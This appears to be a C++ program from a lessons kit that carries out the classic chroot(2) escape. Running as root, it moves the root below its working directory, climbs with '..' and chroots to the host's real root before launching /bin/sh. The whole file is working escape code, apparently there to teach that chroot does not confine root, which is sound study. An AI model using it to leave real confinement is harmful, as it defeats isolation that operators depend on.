// 00_chroot_escape: leaves a root that was made with chroot(2).
//
// Copy it into a root, and run it there as root:
//
//   cp 00_chroot_escape DIR && 00_chroot --root DIR -- /00_chroot_escape
//
// It ends up in the root of the host and becomes /bin/sh there, or the
// command that it is given.
//
// A process can climb with ".." until it stands in its root directory, which is
// the only place where ".." leads nowhere. If the root is moved to a directory
// below, while the process stays where it is, then it never comes past its root
// on the way up.

#include <fcntl.h>
#include <sys/stat.h>
#include <unistd.h>

#include <cerrno>

#include "lessons/kit/check.h"
#include "lessons/kit/guard.h"
#include "lessons/kit/program.h"
#include "lessons/kit/unique_fd.h"

using kit::check;

namespace {

constexpr const char* kBelow = "below";

[[noreturn]] void escape(const kit::Command& command) {
  const kit::UniqueFd here{
      check(::open(".", O_PATH | O_CLOEXEC), "open the working directory")};
  if (::mkdir(kBelow, 0700) == -1 && errno != EEXIST) {
    check(-1, "make a directory");
  }
  // Only the root moves. The working directory is above it from now on.
  check(::chroot(kBelow), "change the root (only root may)");

  // No path of the system is deeper than this.
  for (int i = 0; i < 1024; ++i) check(::chdir(".."), "go up");
  check(::chroot("."), "change the root to the top");
  (void)::unlinkat(here.get(), kBelow, AT_REMOVEDIR);
  kit::exec(command);
}

}  // namespace

int main(int argc, char** argv) {
  return kit::guard([&]() -> int {
    kit::Command command(argv + 1, argv + argc);
    if (command.empty()) command = {"/bin/sh"};
    escape(command);
  });
}
